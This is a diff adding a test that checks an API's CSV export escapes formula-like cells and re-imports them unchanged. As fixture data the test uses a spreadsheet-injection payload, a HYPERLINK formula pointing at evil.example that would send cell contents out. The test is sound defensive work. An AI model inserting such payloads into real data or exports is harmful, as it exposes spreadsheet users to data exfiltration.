@@ -202,6 +202,28 @@ describe('render-to-json (protocol.md §5.2)', () => {
     expect(put.body.comment).toBe('reimported');
   });
 
+  it('writes formula-like CSV cells behind a quote and reads them back as they were', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const created = await admin.post<Obj>('/api/v1/users/groups/', {
+      name: '@SUM(1+1)',
+      comment: formula,
+    });
+    expect(created.status).toBe(201);
+    const { text, rows } = await csv(`/api/v1/users/groups/?format=csv&id=${created.body.id}`);
+    // A spreadsheet shows a quoted cell as text; `-` (null) and numbers are left alone.
+    expect(text).toContain(`'@SUM(1+1)`);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
+    expect(rows[1]!.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
+    const res = await post(
+      admin,
+      '/api/v1/users/groups/render-to-json/',
+      new TextEncoder().encode(text),
+      'text/csv',
+    );
+    expect(res.status).toBe(200);
+    expect(res.body.data[0]).toMatchObject({ name: '@SUM(1+1)', comment: formula });
+  });
+
   it('reads XLSX sent as text/xlsx', async () => {
     const sheet = XLSX.utils.aoa_to_sheet([
       ['*Name', 'Comment'],
